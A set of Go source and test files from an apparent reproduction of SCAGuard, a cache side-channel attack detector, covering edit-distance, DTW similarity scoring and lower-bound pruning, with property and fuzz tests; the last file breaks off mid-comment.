		rng := rand.New(rand.NewSource(seed))
		a := randSeq(rng, rng.Intn(15))
		b := randSeq(rng, rng.Intn(15))
		d := Levenshtein(a, b)
		maxLen := len(a)
		if len(b) > maxLen {
			maxLen = len(b)
		}
		diff := len(a) - len(b)
		if diff < 0 {
			diff = -diff
		}
		return d <= maxLen && d >= diff
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 200}); err != nil {
		t.Error(err)
	}
}
