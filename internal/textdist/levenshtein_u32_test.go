package textdist

// Differential tests for the symbol-sequence Levenshtein variants: over
// any injective token↔symbol mapping, LevenshteinU32 and NormalizedU32
// must be bit-identical to the string forms — this is the equivalence
// the scan engine's flattened comparison kernel (internal/scan) rests
// on.

import (
	"math/rand"
	"testing"
	"testing/quick"
)

// randTokenPair draws two random token sequences plus their symbol
// encodings under one shared injective mapping (token i of the
// vocabulary ↔ symbol i).
func randTokenPair(rng *rand.Rand) (sa, sb []string, ua, ub []uint32) {
	vocab := []string{"mov reg, mem", "clflush mem", "add reg, imm", "rdtscp reg", "jmp imm", "mfence"}
	draw := func() ([]string, []uint32) {
		n := rng.Intn(12)
		toks := make([]string, n)
		syms := make([]uint32, n)
		for i := 0; i < n; i++ {
			k := rng.Intn(len(vocab))
			toks[i] = vocab[k]
			syms[i] = uint32(k)
		}
		return toks, syms
	}
	sa, ua = draw()
	sb, ub = draw()
	return sa, sb, ua, ub
}

func TestLevenshteinU32MatchesString(t *testing.T) {
	var scratch Scratch // reused across all iterations, as in the scan path
	f := func(seed int64) bool {
		rng := rand.New(rand.NewSource(seed))
		sa, sb, ua, ub := randTokenPair(rng)
		if got, want := scratch.LevenshteinU32(ua, ub), Levenshtein(sa, sb); got != want {
			t.Logf("seed=%d: LevenshteinU32 = %d, Levenshtein = %d", seed, got, want)
			return false
		}
		if got, want := scratch.NormalizedU32(ua, ub), Normalized(sa, sb); got != want {
			t.Logf("seed=%d: NormalizedU32 = %v, Normalized = %v", seed, got, want)
			return false
		}
		if got, want := LevenshteinU32(ua, ub), Levenshtein(sa, sb); got != want {
			t.Logf("seed=%d: package-level LevenshteinU32 = %d, want %d", seed, got, want)
			return false
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 500}); err != nil {
		t.Error(err)
	}
}

func TestLevenshteinU32Edges(t *testing.T) {
	var s Scratch
	if got := s.LevenshteinU32(nil, nil); got != 0 {
		t.Errorf("empty vs empty = %d", got)
	}
	if got := s.LevenshteinU32([]uint32{1, 2, 3}, nil); got != 3 {
		t.Errorf("vs empty = %d, want 3", got)
	}
	if got := s.NormalizedU32(nil, nil); got != 0 {
		t.Errorf("normalized empty = %v", got)
	}
	if got := s.NormalizedU32([]uint32{1, 2}, []uint32{1, 2}); got != 0 {
		t.Errorf("normalized identical = %v", got)
	}
	if got := s.NormalizedU32([]uint32{1, 2}, []uint32{3, 4}); got != 1 {
		t.Errorf("normalized disjoint = %v, want 1", got)
	}
}

// A shared scratch must not leak state between calls: interleave
// differently sized computations and re-verify each against the fresh
// package-level form.
func TestScratchReuseIsStateless(t *testing.T) {
	var s Scratch
	seqs := [][]uint32{
		{}, {9}, {1, 2, 3, 4, 5, 6, 7, 8}, {2, 2, 2}, {8, 7, 6, 5, 4, 3, 2, 1, 0},
	}
	for range [3]int{} {
		for _, a := range seqs {
			for _, b := range seqs {
				if got, want := s.LevenshteinU32(a, b), LevenshteinU32(a, b); got != want {
					t.Fatalf("reused scratch: lev(%v, %v) = %d, want %d", a, b, got, want)
				}
			}
		}
	}
}
