// Package textdist implements the edit-distance machinery used to
// compare normalized instruction sequences (Section III-B1 of the
// paper): plain Levenshtein distance over token sequences and the
// normalized variant D_IS = lev(a,b) / max(len(a), len(b)).
package textdist

// Levenshtein returns the edit distance (insert/delete/substitute, all
// cost 1) between two token sequences. It runs in O(len(a)*len(b)) time
// and O(min) space.
func Levenshtein(a, b []string) int {
	if len(a) < len(b) {
		a, b = b, a
	}
	if len(b) == 0 {
		return len(a)
	}
	prev := make([]int, len(b)+1)
	cur := make([]int, len(b)+1)
	for j := range prev {
		prev[j] = j
	}
	for i := 1; i <= len(a); i++ {
		cur[0] = i
		for j := 1; j <= len(b); j++ {
			cost := 1
			if a[i-1] == b[j-1] {
				cost = 0
			}
			cur[j] = min3(prev[j]+1, cur[j-1]+1, prev[j-1]+cost)
		}
		prev, cur = cur, prev
	}
	return prev[len(b)]
}

func min3(a, b, c int) int {
	if b < a {
		a = b
	}
	if c < a {
		a = c
	}
	return a
}

// Normalized returns the normalized Levenshtein distance in [0,1]:
// lev(a,b) / max(len(a), len(b)). Two empty sequences have distance 0.
func Normalized(a, b []string) float64 {
	m := len(a)
	if len(b) > m {
		m = len(b)
	}
	if m == 0 {
		return 0
	}
	return float64(Levenshtein(a, b)) / float64(m)
}

// Scratch holds the two rolling Levenshtein rows the symbol-sequence
// variants reuse across calls, so a scan worker computing thousands of
// block distances allocates its edit-distance state once. A Scratch is
// not safe for concurrent use; the zero value is ready.
type Scratch struct {
	prev, cur []int
}

func (s *Scratch) resize(n int) {
	if cap(s.prev) >= n {
		s.prev = s.prev[:n]
		s.cur = s.cur[:n]
		return
	}
	s.prev = make([]int, n, 2*n)
	s.cur = make([]int, n, 2*n)
}

// LevenshteinU32 is Levenshtein over interned symbol sequences: token
// strings mapped through an injective table (model.SymTab) compare equal
// exactly when the strings do, so the result is identical to
// Levenshtein on the original sequences — integer comparisons instead
// of string comparisons, and zero allocations once the scratch rows
// have grown.
func (s *Scratch) LevenshteinU32(a, b []uint32) int {
	if len(a) < len(b) {
		a, b = b, a
	}
	if len(b) == 0 {
		return len(a)
	}
	s.resize(len(b) + 1)
	prev, cur := s.prev, s.cur
	for j := range prev {
		prev[j] = j
	}
	for i := 1; i <= len(a); i++ {
		cur[0] = i
		for j := 1; j <= len(b); j++ {
			cost := 1
			if a[i-1] == b[j-1] {
				cost = 0
			}
			cur[j] = min3(prev[j]+1, cur[j-1]+1, prev[j-1]+cost)
		}
		prev, cur = cur, prev
	}
	return prev[len(b)]
}

// NormalizedU32 is Normalized over interned symbol sequences, with the
// same float expression: float64(lev) / float64(max-len). Under an
// injective symbol mapping it is bit-identical to Normalized on the
// original token sequences.
func (s *Scratch) NormalizedU32(a, b []uint32) float64 {
	m := len(a)
	if len(b) > m {
		m = len(b)
	}
	if m == 0 {
		return 0
	}
	return float64(s.LevenshteinU32(a, b)) / float64(m)
}

// LevenshteinU32 is the scratch-free convenience form (tests, one-off
// callers); hot paths should hold a Scratch instead.
func LevenshteinU32(a, b []uint32) int {
	var s Scratch
	return s.LevenshteinU32(a, b)
}
