// Package textdist implements the edit-distance machinery used to
// compare normalized instruction sequences (Section III-B1 of the
// paper): plain Levenshtein distance over token sequences and the
// normalized variant D_IS = lev(a,b) / max(len(a), len(b)).
package textdist

// Levenshtein returns the edit distance (insert/delete/substitute, all
// cost 1) between two token sequences. It runs in O(len(a)*len(b)) time
// and O(min) space.
func Levenshtein(a, b []string) int {
	if len(a) < len(b) {
		a, b = b, a
	}
	if len(b) == 0 {
		return len(a)
	}
	prev := make([]int, len(b)+1)
	cur := make([]int, len(b)+1)
	for j := range prev {
		prev[j] = j
	}
	for i := 1; i <= len(a); i++ {
		cur[0] = i
		for j := 1; j <= len(b); j++ {
			cost := 1
			if a[i-1] == b[j-1] {
				cost = 0
			}
			cur[j] = min3(prev[j]+1, cur[j-1]+1, prev[j-1]+cost)
		}
		prev, cur = cur, prev
	}
	return prev[len(b)]
}

func min3(a, b, c int) int {
	if b < a {
		a = b
	}
	if c < a {
		a = c
	}
	return a
}

// Normalized returns the normalized Levenshtein distance in [0,1]:
// lev(a,b) / max(len(a), len(b)). Two empty sequences have distance 0.
func Normalized(a, b []string) float64 {
	m := len(a)
	if len(b) > m {
		m = len(b)
	}
	if m == 0 {
		return 0
	}
	return float64(Levenshtein(a, b)) / float64(m)
}
