// Package similarity implements SCAGuard's similarity comparison
// (Section III-B of the paper): the per-CST distance combining a
// normalized-instruction Levenshtein term (D_IS) with a cache-state-pair
// term (D_CSP), the DTW alignment of two CST-BBSes, and the conversion
// of the DTW distance into a similarity score 1/(D+1).
package similarity

import (
	"repro/internal/dtw"
	"repro/internal/model"
	"repro/internal/textdist"
)

// Options tunes the comparison.
type Options struct {
	// Window is the Sakoe-Chiba band half-width for the DTW alignment;
	// 0 aligns without a band.
	Window int
	// ISWeight and CSPWeight weight the two distance terms; both default
	// to 0.5 (the paper's arithmetic mean). They are exposed for the
	// ablation benchmarks.
	ISWeight  float64
	CSPWeight float64
}

// DefaultOptions returns the paper's configuration: equal term weights
// and a Sakoe-Chiba band of 3 — attack variants align near the diagonal
// while unrelated programs would need the extreme warps the band forbids.
func DefaultOptions() Options {
	return Options{ISWeight: 0.5, CSPWeight: 0.5, Window: 3}
}

func (o Options) withDefaults() Options {
	if o.ISWeight == 0 && o.CSPWeight == 0 {
		o.ISWeight, o.CSPWeight = 0.5, 0.5
	}
	return o
}

// DIS returns the normalized Levenshtein distance between the
// (normalized) instruction sequences of two CSTs.
func DIS(a, b model.CST) float64 {
	return textdist.Normalized(a.NormInsns, b.NormInsns)
}

// DCSP returns |P2 - P1| where Pi = (|AO-AO'| + |IO-IO'|)/2 measures the
// magnitude of cache change of CST i.
func DCSP(a, b model.CST) float64 {
	d := a.Delta() - b.Delta()
	if d < 0 {
		d = -d
	}
	return d
}

// Distance returns the combined CST distance
// (D_IS + D_CSP)/2 under the default weights.
func Distance(a, b model.CST) float64 {
	return DistanceOpts(a, b, DefaultOptions())
}

// DistanceOpts returns the weighted CST distance.
func DistanceOpts(a, b model.CST, opts Options) float64 {
	opts = opts.withDefaults()
	return opts.ISWeight*DIS(a, b) + opts.CSPWeight*DCSP(a, b)
}

// BBSDistance aligns two CST-BBSes with DTW using Distance as the point
// metric and returns the accumulated cost normalized by the warping
// path's length, in [0, 1] (or +Inf when exactly one model is empty).
//
// The normalization is our one calibration of the paper's algorithm:
// raw DTW sums grow with model size, so a fixed similarity threshold
// would mean different things for a 10-block and a 30-block model, and
// longer repository models would systematically attract targets.
// Dividing by the optimal path's length makes the distance a mean
// per-aligned-pair cost: a true variant pair sits near 0.1, an
// attack/benign pair near 0.5, reproducing the paper's score bands
// (S1 high … S5 low) and its 30%-60% threshold plateau with no length
// bias. Two empty models are identical (distance 0); an empty model
// against a non-empty one is infinitely distant.
func BBSDistance(a, b *model.CSTBBS, opts Options) float64 {
	opts = opts.withDefaults()
	d := func(i, j int) float64 { return DistanceOpts(a.Seq[i], b.Seq[j], opts) }
	sum, path := dtw.Path(a.Len(), b.Len(), d, dtw.Options{Window: opts.Window})
	if len(path) == 0 {
		return sum // 0 for both empty, +Inf for one empty
	}
	return sum / float64(len(path))
}

// Score converts two CST-BBSes directly into the paper's similarity
// score 1/(D+1) in [0,1]; larger means more similar.
func Score(a, b *model.CSTBBS, opts Options) float64 {
	return dtw.Similarity(BBSDistance(a, b, opts))
}

// ScoreModels is a convenience over the models' BBSes.
func ScoreModels(a, b *model.Model, opts Options) float64 {
	return Score(a.BBS, b.BBS, opts)
}

// AlignedPair is one step of the optimal DTW warping path between two
// CST-BBSes: model block a.Seq[I] aligned with b.Seq[J] at the given
// point cost. Low-cost pairs are the matching attack phases; high-cost
// pairs are where the behaviors diverge — the explanation a security
// analyst reads.
type AlignedPair struct {
	I, J int
	Cost float64
}

// Align returns the normalized distance together with the full warping
// path, for explainability (e.g. `scaguard compare -explain`).
func Align(a, b *model.CSTBBS, opts Options) (float64, []AlignedPair) {
	opts = opts.withDefaults()
	d := func(i, j int) float64 { return DistanceOpts(a.Seq[i], b.Seq[j], opts) }
	sum, path := dtw.Path(a.Len(), b.Len(), d, dtw.Options{Window: opts.Window})
	if len(path) == 0 {
		return sum, nil
	}
	pairs := make([]AlignedPair, len(path))
	for k, p := range path {
		pairs[k] = AlignedPair{I: p[0], J: p[1], Cost: d(p[0], p[1])}
	}
	return sum / float64(len(path)), pairs
}
