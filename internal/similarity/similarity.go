// Package similarity implements SCAGuard's similarity comparison
// (Section III-B of the paper): the per-CST distance combining a
// normalized-instruction Levenshtein term (D_IS) with a cache-state-pair
// term (D_CSP), the DTW alignment of two CST-BBSes, and the conversion
// of the DTW distance into a similarity score 1/(D+1).
//
// For repository scans (internal/scan) the package additionally exposes
// the pruning primitives documented in docs/PERFORMANCE.md:
//
//   - LowerBound computes a cheap O((n+m)·w) lower bound on BBSDistance
//     from per-block cache deltas and instruction counts alone, without
//     running DTW or Levenshtein. The contract is LowerBound(a,b) ≤
//     BBSDistance(a,b) for every pair, so an entry whose bound already
//     exceeds the best distance found so far can be skipped outright.
//   - BBSDistanceAbandon is BBSDistance with a cutoff: it stops mid-DTW
//     as soon as the normalized distance provably exceeds the cutoff,
//     returning a lower bound instead of the exact value.
//
// Both primitives are conservative: they may fail to prune, but they
// never misreport a distance below the true one.
package similarity

import (
	"math"

	"repro/internal/dtw"
	"repro/internal/model"
	"repro/internal/textdist"
)

// Options tunes the comparison.
type Options struct {
	// Window is the Sakoe-Chiba band half-width for the DTW alignment;
	// 0 aligns without a band.
	Window int
	// ISWeight and CSPWeight weight the two distance terms; both default
	// to 0.5 (the paper's arithmetic mean). They are exposed for the
	// ablation benchmarks.
	ISWeight  float64
	CSPWeight float64
}

// DefaultOptions returns the paper's configuration: equal term weights
// and a Sakoe-Chiba band of 3 — attack variants align near the diagonal
// while unrelated programs would need the extreme warps the band forbids.
func DefaultOptions() Options {
	return Options{ISWeight: 0.5, CSPWeight: 0.5, Window: 3}
}

// WithDefaults fills the zero value in: when BOTH weights are zero they
// fall back to the paper's 0.5/0.5 mean. A single zero weight is left
// alone on purpose — Options{ISWeight: 0, CSPWeight: 1} means "cache
// semantics only" (and symmetrically for the instruction term), the
// configuration the ablation benchmarks rely on.
func (o Options) WithDefaults() Options {
	if o.ISWeight == 0 && o.CSPWeight == 0 {
		o.ISWeight, o.CSPWeight = 0.5, 0.5
	}
	return o
}

func (o Options) withDefaults() Options { return o.WithDefaults() }

// DIS returns the normalized Levenshtein distance between the
// (normalized) instruction sequences of two CSTs.
func DIS(a, b model.CST) float64 {
	return textdist.Normalized(a.NormInsns, b.NormInsns)
}

// DCSP returns |P2 - P1| where Pi = (|AO-AO'| + |IO-IO'|)/2 measures the
// magnitude of cache change of CST i.
func DCSP(a, b model.CST) float64 {
	d := a.Delta() - b.Delta()
	if d < 0 {
		d = -d
	}
	return d
}

// Distance returns the combined CST distance
// (D_IS + D_CSP)/2 under the default weights.
func Distance(a, b model.CST) float64 {
	return DistanceOpts(a, b, DefaultOptions())
}

// DistanceOpts returns the weighted CST distance.
func DistanceOpts(a, b model.CST, opts Options) float64 {
	opts = opts.withDefaults()
	return opts.ISWeight*DIS(a, b) + opts.CSPWeight*DCSP(a, b)
}

// BBSDistance aligns two CST-BBSes with DTW using Distance as the point
// metric and returns the accumulated cost normalized by the warping
// path's length, in [0, 1] (or +Inf when exactly one model is empty).
//
// The normalization is our one calibration of the paper's algorithm:
// raw DTW sums grow with model size, so a fixed similarity threshold
// would mean different things for a 10-block and a 30-block model, and
// longer repository models would systematically attract targets.
// Dividing by the optimal path's length makes the distance a mean
// per-aligned-pair cost: a true variant pair sits near 0.1, an
// attack/benign pair near 0.5, reproducing the paper's score bands
// (S1 high … S5 low) and its 30%-60% threshold plateau with no length
// bias. Two empty models are identical (distance 0); an empty model
// against a non-empty one is infinitely distant.
func BBSDistance(a, b *model.CSTBBS, opts Options) float64 {
	opts = opts.withDefaults()
	d := func(i, j int) float64 { return DistanceOpts(a.Seq[i], b.Seq[j], opts) }
	// O(min-row) memory: DistanceWithPathLen reproduces dtw.Path's
	// (sum, path length) pair exactly without the full cost matrix.
	sum, pathLen := dtw.DistanceWithPathLen(a.Len(), b.Len(), d, dtw.Options{Window: opts.Window})
	if pathLen == 0 {
		return sum // 0 for both empty, +Inf for one empty
	}
	return sum / float64(pathLen)
}

// BBSDistanceAbandon is BBSDistance with early abandoning: when the
// normalized distance provably exceeds cutoff it stops mid-alignment and
// returns (bound, true), where bound is a lower bound on the true
// distance with bound > cutoff. Otherwise it returns the exact
// BBSDistance value and false. A cutoff of +Inf never abandons.
//
// The proof obligation is discharged by scaling: an optimal warping path
// has at most n+m-1 steps, so a raw DTW sum above cutoff·(n+m-1)
// normalizes to a distance above cutoff whatever the true path length.
func BBSDistanceAbandon(a, b *model.CSTBBS, opts Options, cutoff float64) (float64, bool) {
	opts = opts.withDefaults()
	n, m := a.Len(), b.Len()
	switch {
	case n == 0 && m == 0:
		return 0, false
	case n == 0 || m == 0:
		return math.Inf(1), false
	}
	d := func(i, j int) float64 { return DistanceOpts(a.Seq[i], b.Seq[j], opts) }
	rawCutoff := cutoff * float64(n+m-1)
	sum, pathLen, abandoned := dtw.DistanceAbandon(n, m, d, dtw.Options{Window: opts.Window}, rawCutoff)
	if abandoned {
		return sum / float64(n+m-1), true
	}
	return sum / float64(pathLen), false
}

// Profile caches the per-block scalars the lower-bound cascade
// consumes: the cache deltas and the normalized-instruction counts of
// each CST-BBS entry, plus their ranges (the O(1) tier's aggregates).
// Profiles are immutable and safe to share across goroutines.
type Profile struct {
	Deltas []float64
	Lens   []int

	// Aggregate ranges over Deltas and Lens, precomputed at profile
	// build so LowerBoundKim costs O(1) per entry. Zero-length profiles
	// leave them at their zero values (never read: the empty cases
	// short-circuit first).
	MinDelta, MaxDelta float64
	MinLen, MaxLen     int
}

// NewProfile extracts a Profile from a behavior model.
func NewProfile(s *model.CSTBBS) *Profile {
	p := &Profile{
		Deltas: make([]float64, s.Len()),
		Lens:   make([]int, s.Len()),
	}
	for i, c := range s.Seq {
		p.Deltas[i] = c.Delta()
		p.Lens[i] = len(c.NormInsns)
	}
	p.aggregate()
	return p
}

// aggregate fills the range fields from Deltas and Lens.
func (p *Profile) aggregate() {
	if len(p.Deltas) == 0 {
		return
	}
	p.MinDelta, p.MaxDelta = p.Deltas[0], p.Deltas[0]
	p.MinLen, p.MaxLen = p.Lens[0], p.Lens[0]
	for i := 1; i < len(p.Deltas); i++ {
		if d := p.Deltas[i]; d < p.MinDelta {
			p.MinDelta = d
		} else if d > p.MaxDelta {
			p.MaxDelta = d
		}
		if l := p.Lens[i]; l < p.MinLen {
			p.MinLen = l
		} else if l > p.MaxLen {
			p.MaxLen = l
		}
	}
}

// LowerBound returns a cheap lower bound on BBSDistance for the models
// the profiles were extracted from, under the same Options. It costs
// O((n+m)·w) for a Sakoe-Chiba band of half-width w — no DTW matrix, no
// Levenshtein — and underestimates every per-cell cost:
//
//   - D_CSP(i,j) = |Δi − Δj| is computed exactly from the profiles;
//   - D_IS(i,j) ≥ |len_i − len_j| / max(len_i, len_j), because an edit
//     script must at least insert or delete the length difference.
//
// Every admissible warping path visits each row (and each column) at
// least once, so the sum of per-row minima over the band cells bounds
// the raw DTW sum from below; dividing by the maximal path length n+m-1
// bounds the normalized distance. The bound is +Inf when exactly one
// model is empty and 0 when both are.
func LowerBound(a, b *Profile, opts Options) float64 {
	opts = opts.withDefaults()
	n, m := len(a.Deltas), len(b.Deltas)
	switch {
	case n == 0 && m == 0:
		return 0
	case n == 0 || m == 0:
		return math.Inf(1)
	}
	w := opts.Window
	if w > 0 {
		diff := n - m
		if diff < 0 {
			diff = -diff
		}
		if w < diff {
			w = diff
		}
	}
	sum := rowEnvelope(a, b, opts, w)
	if s := rowEnvelope(b, a, opts, w); s > sum {
		sum = s // the column-wise bound is equally valid; keep the tighter
	}
	// lbSafety (cascade.go) absorbs the ulps by which the DTW's own
	// float accumulation can land below an independently summed bound.
	return sum / float64(n+m-1) * lbSafety
}

// rowEnvelope sums, over each row of the (banded) cost matrix, the
// cheapest possible cell cost derivable from the profiles alone. w <= 0
// means no band: every column is admissible for every row.
func rowEnvelope(a, b *Profile, opts Options, w int) float64 {
	n, m := len(a.Deltas), len(b.Deltas)
	var sum float64
	for i := 1; i <= n; i++ {
		lo, hi := 1, m
		if w > 0 {
			lo = i - w
			if lo < 1 {
				lo = 1
			}
			hi = i + w
			if hi > m {
				hi = m
			}
		}
		best := math.Inf(1)
		for j := lo; j <= hi; j++ {
			c := opts.ISWeight*lenBound(a.Lens[i-1], b.Lens[j-1]) + opts.CSPWeight*absDelta(a.Deltas[i-1], b.Deltas[j-1])
			if c < best {
				best = c
			}
		}
		sum += best
	}
	return sum
}

// lenBound is the length-difference lower bound on the normalized
// Levenshtein distance: lev(a,b) ≥ ||a|-|b||, so D_IS ≥ ||a|-|b||/max.
func lenBound(la, lb int) float64 {
	if la < lb {
		la, lb = lb, la
	}
	if la == 0 {
		return 0
	}
	return float64(la-lb) / float64(la)
}

func absDelta(a, b float64) float64 {
	d := a - b
	if d < 0 {
		d = -d
	}
	return d
}

// Score converts two CST-BBSes directly into the paper's similarity
// score 1/(D+1) in [0,1]; larger means more similar.
func Score(a, b *model.CSTBBS, opts Options) float64 {
	return dtw.Similarity(BBSDistance(a, b, opts))
}

// ScoreModels is a convenience over the models' BBSes.
func ScoreModels(a, b *model.Model, opts Options) float64 {
	return Score(a.BBS, b.BBS, opts)
}

// AlignedPair is one step of the optimal DTW warping path between two
// CST-BBSes: model block a.Seq[I] aligned with b.Seq[J] at the given
// point cost. Low-cost pairs are the matching attack phases; high-cost
// pairs are where the behaviors diverge — the explanation a security
// analyst reads.
type AlignedPair struct {
	I, J int
	Cost float64
}

// Align returns the normalized distance together with the full warping
// path, for explainability (e.g. `scaguard compare -explain`).
func Align(a, b *model.CSTBBS, opts Options) (float64, []AlignedPair) {
	opts = opts.withDefaults()
	d := func(i, j int) float64 { return DistanceOpts(a.Seq[i], b.Seq[j], opts) }
	sum, path := dtw.Path(a.Len(), b.Len(), d, dtw.Options{Window: opts.Window})
	if len(path) == 0 {
		return sum, nil
	}
	pairs := make([]AlignedPair, len(path))
	for k, p := range path {
		pairs[k] = AlignedPair{I: p[0], J: p[1], Cost: d(p[0], p[1])}
	}
	return sum / float64(len(path)), pairs
}
