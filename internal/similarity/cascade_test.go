package similarity

// Property and differential tests for the lower-bound cascade
// (cascade.go): every tier must underestimate the exact BBSDistance for
// every input — randomized models, mutation-generated attack variants
// and fuzzed byte-derived models alike — and the composed cascade must
// be monotone (tier 1 ≤ tier 2 ≤ tier 3). These invariants are what
// make cascade pruning in internal/scan prune-only: a violated bound
// here would silently drop a true best match there.

import (
	"math"
	"math/rand"
	"testing"
	"testing/quick"

	"repro/internal/attacks"
	"repro/internal/model"
	"repro/internal/mutate"
)

// cascadeOptsList is the weight/window matrix every cascade property is
// checked under — the same spread TestLowerBoundNeverExceedsDistance
// uses, covering both ablation extremes and banded DTW.
var cascadeOptsList = []Options{
	DefaultOptions(),
	{Window: 1, ISWeight: 0.5, CSPWeight: 0.5},
	{ISWeight: 1, CSPWeight: 1e-9},
	{ISWeight: 1e-9, CSPWeight: 1},
	{ISWeight: 0, CSPWeight: 1},
	{Window: 2, ISWeight: 0.25, CSPWeight: 0.75},
}

// checkCascadePair verifies every cascade invariant for one model pair
// under one Options value; it reports the first violation as a string
// (empty = all good) so callers can attach their own context.
func checkCascadePair(a, b *model.CSTBBS, opts Options, s *KeoghScratch) string {
	pa, pb := NewProfile(a), NewProfile(b)
	kim, keogh, full := Cascade(pa, pb, opts, s)
	d := BBSDistance(a, b, opts)
	if math.IsInf(d, 1) {
		// one-empty: every tier must agree on +Inf
		if !math.IsInf(kim, 1) || !math.IsInf(keogh, 1) || !math.IsInf(full, 1) {
			return "distance +Inf but a tier is finite"
		}
		return ""
	}
	if kim > keogh || keogh > full {
		return "cascade not monotone"
	}
	if full > d {
		return "cascade exceeds exact distance"
	}
	// The raw tiers are individually sound too, not just their running
	// maximum: each alone must underestimate the distance.
	if lb := LowerBoundKim(pa, pb, opts); lb > d {
		return "LowerBoundKim exceeds exact distance"
	}
	if lb := LowerBoundKeogh(pa, pb, opts, s); lb > d {
		return "LowerBoundKeogh exceeds exact distance"
	}
	if lb := LowerBound(pa, pb, opts); lb > d {
		return "LowerBound exceeds exact distance"
	}
	return ""
}

// Every tier of the cascade underestimates the exact distance on
// randomized models, for every weight mix and window, with the Keogh
// scratch reused across all iterations (reuse must not corrupt bounds).
func TestCascadeNeverExceedsDistance(t *testing.T) {
	var s KeoghScratch
	f := func(seed int64) bool {
		rng := rand.New(rand.NewSource(seed))
		a, b := randomBBS(rng, 8), randomBBS(rng, 8)
		for _, opts := range cascadeOptsList {
			if msg := checkCascadePair(a, b, opts, &s); msg != "" {
				t.Logf("seed=%d opts=%+v: %s", seed, opts, msg)
				return false
			}
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 300}); err != nil {
		t.Error(err)
	}
}

func TestCascadeEmpty(t *testing.T) {
	var s KeoghScratch
	empty := NewProfile(seq("e"))
	full := NewProfile(seq("a", cst([]string{"x"}, 0.1, 0.1)))
	if kim, keogh, fl := Cascade(empty, empty, DefaultOptions(), &s); kim != 0 || keogh != 0 || fl != 0 {
		t.Errorf("both empty = (%v, %v, %v), want zeros", kim, keogh, fl)
	}
	kim, keogh, fl := Cascade(empty, full, DefaultOptions(), &s)
	if !math.IsInf(kim, 1) || !math.IsInf(keogh, 1) || !math.IsInf(fl, 1) {
		t.Errorf("empty vs full = (%v, %v, %v), want +Inf", kim, keogh, fl)
	}
}

// Identical models must never be pruned against themselves: every tier
// has to report 0 for a self-comparison (the distance is 0, and a
// positive bound would exceed it).
func TestCascadeSelfIsZero(t *testing.T) {
	var s KeoghScratch
	rng := rand.New(rand.NewSource(42))
	for i := 0; i < 50; i++ {
		a := randomBBS(rng, 8)
		p := NewProfile(a)
		kim, keogh, full := Cascade(p, p, DefaultOptions(), &s)
		if kim != 0 || keogh != 0 || full != 0 {
			t.Fatalf("self cascade = (%v, %v, %v), want zeros", kim, keogh, full)
		}
	}
}

// mutationModels builds the cascade's adversarial corpus: the behavior
// model of every canonical attack PoC plus two semantics-preserving
// mutated variants each — the realistic near-duplicate population where
// a too-tight bound would actually bite (mutants score very close to
// their originals).
func mutationModels(t testing.TB) []*model.CSTBBS {
	t.Helper()
	var out []*model.CSTBBS
	for _, name := range attacks.Names() {
		poc, err := attacks.ByName(name, attacks.DefaultParams())
		if err != nil {
			t.Fatal(err)
		}
		m, err := model.Build(poc.Program, poc.Victim, model.DefaultConfig())
		if err != nil {
			t.Fatal(err)
		}
		out = append(out, m.BBS)
		for seed := int64(1); seed <= 2; seed++ {
			mut, err := mutate.Mutate(poc.Program, mutate.LightConfig(seed))
			if err != nil {
				t.Fatal(err)
			}
			mm, err := model.Build(mut, poc.Victim, model.DefaultConfig())
			if err != nil {
				t.Fatal(err)
			}
			out = append(out, mm.BBS)
		}
	}
	return out
}

// Every cascade tier stays below the exact distance across all pairs of
// real attack models and their mutants — the population the scan engine
// actually prunes over.
func TestCascadeMutationPairs(t *testing.T) {
	models := mutationModels(t)
	var s KeoghScratch
	for _, opts := range []Options{DefaultOptions(), {Window: 2, ISWeight: 0.25, CSPWeight: 0.75}} {
		for i, a := range models {
			for j, b := range models {
				if msg := checkCascadePair(a, b, opts, &s); msg != "" {
					t.Fatalf("models %d vs %d opts=%+v: %s", i, j, opts, msg)
				}
			}
		}
	}
}

// fuzzBBS decodes an arbitrary byte string into a CST-BBS: each byte
// pair becomes one block (length and token mix from the first byte,
// cache delta from the second). Every input is valid, so the fuzzer
// explores model shapes, not parser rejections.
func fuzzBBS(data []byte) *model.CSTBBS {
	words := []string{"mov reg, mem", "clflush mem", "add reg, imm", "rdtscp reg", "jmp imm"}
	s := &model.CSTBBS{Name: "fuzz"}
	for i := 0; i+1 < len(data) && len(s.Seq) < 24; i += 2 {
		n := int(data[i]) % 6
		var norm []string
		for k := 0; k < n; k++ {
			norm = append(norm, words[(int(data[i])+k*int(data[i+1]))%len(words)])
		}
		d := float64(data[i+1]%16) / 16
		s.Seq = append(s.Seq, cst(norm, d, d))
	}
	return s
}

// encodeBBS is fuzzBBS's seed-side inverse-in-spirit: it projects a
// real model into the fuzz byte encoding, so the canonical attack
// corpus seeds the fuzzer with realistic length/delta shapes.
func encodeBBS(s *model.CSTBBS) []byte {
	var out []byte
	for _, c := range s.Seq {
		out = append(out, byte(len(c.NormInsns)), byte(int(c.Delta()*16)&0xff))
	}
	return out
}

// FuzzLowerBoundCascade fuzzes the cascade soundness invariant: two
// byte-derived models, every tier must underestimate the exact
// distance and the cascade must stay monotone. Seeded with handcrafted
// edge shapes plus the encoded canonical attack corpus.
func FuzzLowerBoundCascade(f *testing.F) {
	f.Add([]byte{}, []byte{})
	f.Add([]byte{0, 0}, []byte{5, 15})
	f.Add([]byte{1, 8, 2, 0, 3, 15}, []byte{4, 4})
	f.Add([]byte{255, 255, 0, 1}, []byte{7, 9, 130, 200, 33, 1})
	for _, m := range mutationModels(f) {
		f.Add(encodeBBS(m), encodeBBS(m))
	}
	var s KeoghScratch
	f.Fuzz(func(t *testing.T, da, db []byte) {
		a, b := fuzzBBS(da), fuzzBBS(db)
		for _, opts := range cascadeOptsList {
			if msg := checkCascadePair(a, b, opts, &s); msg != "" {
				t.Fatalf("opts=%+v: %s (a=%d blocks, b=%d blocks)", opts, msg, a.Len(), b.Len())
			}
		}
	})
}
