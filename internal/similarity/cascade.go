package similarity

import "math"

// The lower-bound cascade (docs/PERFORMANCE.md): three progressively
// tighter, progressively costlier lower bounds on BBSDistance, adapted
// from the UCR-suite playbook for time-series subsequence search to the
// CST-BBS point distance D = ISW·D_IS + CSP·D_CSP:
//
//	tier 1  LowerBoundKim    O(1)        range gap + warping-path corners
//	tier 2  LowerBoundKeogh  O(n+m)      per-row band envelopes (monotone deques)
//	tier 3  LowerBound       O((n+m)·w)  exact per-row band minima (similarity.go)
//
// Every tier satisfies LB(a,b) ≤ BBSDistance(a,b) — property-tested and
